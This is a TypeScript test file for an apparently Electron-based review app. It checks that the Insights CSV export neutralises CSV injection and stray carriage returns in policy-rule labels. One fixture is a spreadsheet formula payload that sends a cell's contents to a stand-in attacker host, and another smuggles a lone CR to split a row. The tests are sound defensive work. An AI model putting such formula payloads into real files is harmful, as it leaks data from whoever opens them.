import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { openAppServices, type AppServices } from '../../electron/services/app-services'
import { BUNDLE_FORMAT, BUNDLE_VERSION } from '../../shared/bundle/bundle-schema'
import { chartCsv, insightCharts } from '../../renderer/src/store/insight-charts'
import { fidelityCase } from '../fixtures/fidelity/corpus'
import { REVIEWER, resourcesDir } from '../fixtures/sync-fixtures'
import { makeTempDir } from '../fixtures/temp-dir'

// Attack 22: case text that reaches the Insights CSV export (`x` on a chart) must stay text, and
// stay one cell. The policy rule that paused a case is the label of "Outcomes by policy rule".

const RULES = {
  loneCr: 'REFUND\rOVER-LIMIT',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Open details")'
}

let dir: ReturnType<typeof makeTempDir>
let services: AppServices | undefined
beforeEach(() => {
  dir = makeTempDir('countersign-a22-csv-')
})
afterEach(() => {
  services?.close()
  services = undefined
  dir.remove()
})

/** RFC 4180 as spreadsheets read it: a record ends at CRLF, LF or a lone CR outside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const endCell = () => {
    row.push(cell)
    cell = ''
  }
  for (let at = 0; at < text.length; at++) {
    const char = text[at]!
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') {
        cell += '"'
        at++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') endCell()
    else if (char === '\r' || char === '\n') {
      if (char === '\r' && text[at + 1] === '\n') at++
      endCell()
      rows.push(row)
      row = []
    } else cell += char
  }
  if (cell || row.length) {
    endCell()
    rows.push(row)
  }
  return rows
}

async function decidedWithRules(): Promise<string> {
  const cases = Object.entries(RULES).map(([key, rule]) => {
    const base = fidelityCase('line endings LF')
    return { ...base, id: `a22-${key}`, title: `Rule ${key}`, pauseReason: { ...base.pauseReason, rule } }
  })
  const file = join(dir.path, 'rules.bundle.json')
  writeFileSync(file, JSON.stringify({ format: BUNDLE_FORMAT, version: BUNDLE_VERSION, generatedAt: new Date().toISOString(), workspace: { id: 'a22', name: 'A22' }, cases }))
  const app = (services = openAppServices({ dataDir: join(dir.path, 'app'), resourcesDir, reviewer: REVIEWER, appVersion: '1.0.0-test', undoGraceMs: 0, watchSla: false }))
  await app.settings.save({ config: { id: 'usb', kind: 'bundle', name: 'USB', path: file, syncIntervalSeconds: 3600 } })
  await app.sync.syncNow('usb')
  for (const row of app.review.queuePage(0, 50).rows) {
    const detail = app.review.caseDetail(row.casePk)
    await app.review.decide({ casePk: detail.casePk, revision: detail.reviewCase.revision, outcome: 'approve', openedAt: new Date().toISOString() })
  }
  const chart = insightCharts(app.insights.report()).find((candidate) => candidate.id === 'outcomes-by-rule')!
  expect(chart.labels.sort()).toEqual(Object.values(RULES).sort())
  return chartCsv(chart)
}

describe('attack 22: the Insights CSV export', () => {
  it('a policy rule with a lone CR stays one cell of one row', async () => {
    const rows = parseCsv(await decidedWithRules())
    expect(rows).toHaveLength(1 + Object.keys(RULES).length)
    expect(rows.map((row) => row[0])).toContain(RULES.loneCr)
  })

  it('a policy rule that reads as a spreadsheet formula is not exported as one (OWASP CSV injection)', async () => {
    const rows = parseCsv(await decidedWithRules())
    for (const [label] of rows.slice(1)) expect(label, 'a cell a spreadsheet would evaluate').not.toMatch(/^[=+\-@\t\r]/)
  })
})
